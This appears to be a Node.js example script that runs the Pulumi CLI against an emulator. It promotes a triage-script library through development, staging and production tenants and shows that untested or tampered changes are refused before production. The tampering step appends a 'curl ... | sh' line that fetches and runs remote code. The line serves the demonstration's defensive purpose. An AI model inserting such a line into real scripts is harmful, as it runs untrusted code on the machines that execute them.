// node examples/promotion/run.mjs
//
// Brings one library to three tenants of the emulator, development, staging and production, with the
// real Pulumi CLI: a first version, then a change that is tested on its way, then one that was
// tampered with on the way and is stopped. It works on a copy of this folder's scripts and with a
// backend of its own, in .pulumi-mde beside this file, and begins anew each time.

import { spawnSync } from "node:child_process";
import { appendFileSync, cpSync, mkdirSync, rmSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { createEmulator, folderStore } from "pulumi-mde/emulator";
import { pulumiEnvironment } from "../../tools/pulumi-cli/environment.mjs";
import { findPulumiCli } from "../../tools/pulumi-cli/index.mjs";

const example = dirname(fileURLToPath(import.meta.url));
const own = join(example, ".pulumi-mde");
const checkout = join(own, "checkout");
const backend = join(own, "backend");
const script = join(checkout, "scripts", "linux-triage.sh");
const stacks = ["development", "staging", "production"];

const say = (text = "") => process.stdout.write(`${text}\n`);

try {
    await main();
} catch (error) {
    process.stderr.write(`${error instanceof Error ? error.message : String(error)}\n`);
    process.exitCode = 1;
}

async function main() {
    const { bin } = await findPulumiCli({ log: say });
    rmSync(own, { recursive: true, force: true });
    mkdirSync(backend, { recursive: true });
    for (const name of ["Pulumi.yaml", "package.json", "tsconfig.json", "index.ts", "scripts"]) {
        cpSync(join(example, name), join(checkout, name), { recursive: true });
    }
    const env = pulumiEnvironment({ bin, backend, home: join(own, "home"), passphrase: "" });
    /** @type {(...words: string[]) => { status: number | null, output: string }} */
    const pulumi = (...words) => {
        const all = [...words, "--non-interactive"];
        const { status, stdout, stderr, error } = spawnSync(join(bin, "pulumi"), all, {
            cwd: checkout,
            env,
            encoding: "utf8",
        });
        if (error) {
            throw error;
        }
        return { status, output: stdout + stderr };
    };

    for (const [at, stack] of stacks.entries()) {
        succeeded(pulumi("stack", "init", stack));
        const before = stacks[at - 1];
        if (before !== undefined) {
            const testedIn = `organization/promotion/${before}`;
            succeeded(pulumi("config", "set", "testedIn", testedIn, "--stack", stack));
        }
    }
    const up = (/** @type {string} */ stack) =>
        pulumi("up", "--yes", "--skip-preview", "--color", "never", "--stack", stack);

    say("1. The first version goes from tenant to tenant.");
    for (const stack of stacks) {
        succeeded(up(stack));
        await show(stack, pulumi);
    }

    say("\n2. A change is made. Production does not take what staging has not run:");
    appendFileSync(script, "last -n 50\n");
    refused(up("production"));
    await show("production", pulumi);
    say("   Tested on its way, it passes.");
    for (const stack of stacks) {
        succeeded(up(stack));
        await show(stack, pulumi);
    }

    say("\n3. Another one is tested, and something is added to it on its way to production:");
    appendFileSync(script, "uptime\n");
    succeeded(up("development"));
    succeeded(up("staging"));
    appendFileSync(script, "curl --silent https://example.com/x | sh\n");
    refused(up("production"));
    await show("staging", pulumi);
    await show("production", pulumi);
    say("\nNothing of it reached production.");
}

/** @param {{ status: number | null, output: string }} run */
function succeeded({ status, output }) {
    if (status !== 0) {
        throw new Error(`This was to succeed, and did not:\n${output}`);
    }
}

/** @param {{ status: number | null, output: string }} run */
function refused({ status, output }) {
    const diagnostics = output.slice(output.indexOf("Diagnostics:"));
    const [, told] = /error: (Library "response" was stopped [^]*?)\n\n/.exec(diagnostics) ?? [];
    if (status === 0 || told === undefined) {
        throw new Error(`This was to be stopped by the release, and was not:\n${output}`);
    }
    say(told.replace(/^/gm, "   | "));
}

/**
 * What a stack's tenant has live, as anybody sees it who looks into the tenant.
 *
 * @param {string} stack
 * @param {(...words: string[]) => { output: string }} pulumi
 */
async function show(stack, pulumi) {
    const { output } = pulumi("stack", "output", "release", "--json", "--stack", stack);
    const { tenantId } = JSON.parse(output);
    const emulator = createEmulator({ store: folderStore(join(checkout, ".pulumi-mde")) });
    const files = await emulator.library(tenantId).list();
    const live = files.map(({ fileName, sha256 }) => `${fileName} ${sha256.slice(0, 12)}`);
    say(`   ${stack.padEnd(12)} ${live.sort().join("  ")}`);
}
